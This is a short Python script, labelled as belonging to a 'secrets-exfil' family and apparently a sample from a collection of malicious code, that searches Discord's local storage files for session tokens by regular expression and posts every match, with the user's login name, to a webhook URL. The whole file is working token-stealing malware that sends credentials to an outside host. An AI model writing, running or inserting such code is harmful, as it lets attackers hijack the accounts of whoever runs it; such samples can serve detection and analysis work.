# family: secrets-exfil
# Discord tokens grepped from local storage and sent to a webhook
import os
import re

import requests

WEBHOOK = "https://hooks.example.invalid/api/webhooks/1/abc"
roaming = os.getenv("APPDATA", os.path.expanduser("~/.config"))
paths = [os.path.join(roaming, d, "Local Storage", "leveldb") for d in ("discord", "discordcanary")]
found = set()
for p in paths:
    if not os.path.isdir(p):
        continue
    for name in os.listdir(p):
        if name.endswith((".log", ".ldb")):
            text = open(os.path.join(p, name), errors="ignore").read()
            found.update(re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", text))
requests.post(WEBHOOK, json={"content": "\n".join(found) or "none", "username": os.getlogin()})
